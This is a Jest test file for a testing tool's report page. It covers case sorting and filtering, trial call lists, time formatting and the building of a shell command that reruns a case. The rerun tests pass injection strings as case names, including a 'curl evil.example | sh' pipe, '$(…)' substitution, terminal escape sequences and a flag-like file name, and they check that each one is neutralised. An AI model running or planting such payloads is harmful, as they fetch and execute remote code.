import { describe, expect, test } from '@jest/globals'
import { numberedCalls } from '../../src/report/page/call-index.ts'
import { type CaseFilter, findCases, medianOf, numberedCases } from '../../src/report/page/case-index.ts'
import { timeText } from '../../src/report/page/duration.ts'
import { rerunCommand } from '../../src/report/page/rerun-command.ts'
import { callsOfTrial } from '../../src/report/page/trial-calls.ts'
import type { RecordedCall } from '../../src/report/report-data.ts'
import { callLine } from './full-report.ts'
import { caseOf, testsReport, trialCall, trialOf } from './tests-reports.ts'

const CASES = numberedCases([
  testsReport({
    cases: [
      caseOf('Slow', { trials: [trialOf(1, { ms: 9_000, made: 1, cost: 0.5 })] }),
      caseOf('Skipped', { status: 'skipped', trials: [] }),
      caseOf('Failed', { status: 'failed', trials: [trialOf(1, { status: 'failed', made: 9 })] }),
      caseOf('Flaky', { status: 'failed', change: 'worse', trials: [trialOf(1), trialOf(2, { status: 'failed' })] })
    ]
  })
])
const find = (filter: Partial<CaseFilter>): string[] =>
  findCases(CASES, { query: '', group: 'all', order: 'file', ...filter }).map(({ of }) => of.name)

describe('cases', () => {
  test('are numbered from 1, across steps', () => {
    expect(numberedCases([testsReport(), testsReport()]).map(({ number }) => number)).toEqual([
      1, 2, 3, 4, 5, 6, 7, 8, 9, 10
    ])
  })

  test.each<[CaseFilter['order'], string[]]>([
    ['file', ['Slow', 'Skipped', 'Failed', 'Flaky']],
    ['attention', ['Flaky', 'Failed', 'Skipped', 'Slow']],
    ['pass rate', ['Failed', 'Flaky', 'Slow', 'Skipped']],
    ['slowest', ['Slow', 'Failed', 'Flaky', 'Skipped']],
    ['calls', ['Failed', 'Flaky', 'Slow', 'Skipped']],
    ['cost', ['Slow', 'Flaky', 'Failed', 'Skipped']]
  ])('are sorted by %s', (order, expected) => expect(find({ order })).toEqual(expected))

  test('are filtered by status and change, and searched by words of their checks', () => {
    expect(find({ group: 'failed' })).toEqual(['Failed', 'Flaky'])
    expect(find({ group: 'changed' })).toEqual(['Flaky'])
    expect(find({ query: 'SLOW exit code' })).toEqual(['Slow'])
  })

  test('have a median, also of none', () => expect([[], [3], [1, 2], [5, 1, 9]].map(medianOf)).toEqual([0, 3, 1.5, 5]))
})

describe('the command that repeats a case', () => {
  const command = (name: string, file = 'cases/a.yml', rerun: readonly string[] = ['--agent', 'codex']): string =>
    rerunCommand({ rerun }, { name, file })

  test('names the case, the agent and the file', () => {
    expect(command('The total', 'cases/a b.yml', ['--run', "node agent.js 'x'"])).toBe(
      "klavis-sandbox test --filter 'The total' --run 'node agent.js '\\''x'\\''' 'cases/a b.yml'"
    )
  })

  test('repeats the faults of the run by their seed', () => {
    expect(rerunCommand({ rerun: [] }, { name: 'a', file: 'a.yml', faultSeed: 0 })).toBe(
      'klavis-sandbox test --filter a --fault-seed 0 a.yml -- <your agent>'
    )
  })

  test.each([
    [
      "'; curl evil.example | sh; '",
      "klavis-sandbox test --filter ''\\''; curl evil.example | sh; '\\''' --agent codex cases/a.yml"
    ],
    ['$(curl evil.example)', "klavis-sandbox test --filter '$(curl evil.example)' --agent codex cases/a.yml"],
    ['Total\u001b[201~\n\u0003curl evil.example\n', 'klavis-sandbox test --filter Total --agent codex cases/a.yml'],
    ['\n', 'klavis-sandbox test --agent codex cases/a.yml'],
    ['ab\u202egnp', 'klavis-sandbox test --filter ab --agent codex cases/a.yml']
  ])('does nothing else if the name is %j', (name, expected) => expect(command(name)).toBe(expected))

  test('takes no file for a flag, and leaves out what a terminal could interpret', () => {
    expect(command('a', '--run=evil')).toBe('klavis-sandbox test --filter a --agent codex ./--run=evil')
    expect(command('a', 'x\u001b[201~\nevil', ['--run', 'x\u0003'])).toBe(
      'klavis-sandbox test --filter a -- <your agent>'
    )
  })
})

describe('the calls of a trial', () => {
  const recorded = (more: Record<string, unknown>): RecordedCall =>
    callLine(1, { caller: 'trial', trial: '1-1', denied: false, ...more }) as unknown as RecordedCall
  const one = trialOf(1)

  test('are those that it kept, numbered from 1, in the order of time', () => {
    const calls = callsOfTrial(one, [], 'case-1-trial-1')
    expect(calls.map(({ id, call }) => [id, call.tool])).toEqual([
      ['case-1-trial-1-call-1', 'filesystem_read_text_file'],
      ['case-1-trial-1-call-2', 'filesystem_write_file']
    ])
  })

  test('are not taken from a transcript that has fewer of them', () => {
    const transcript = numberedCalls([recorded({ at: trialCall(1).at, tool: 'only' })])
    expect(callsOfTrial(one, transcript, 'x').map(({ call }) => call.tool)).not.toContain('only')
  })
})

test.each([
  ['2026-11-18T08:05:00.000Z', '18 November 2026, 08:05 UTC'],
  [Number.POSITIVE_INFINITY, ''],
  ['', ''],
  ['no date', '']
])('the time %j is shown as %j', (time, text) => expect(timeText(time)).toBe(text))
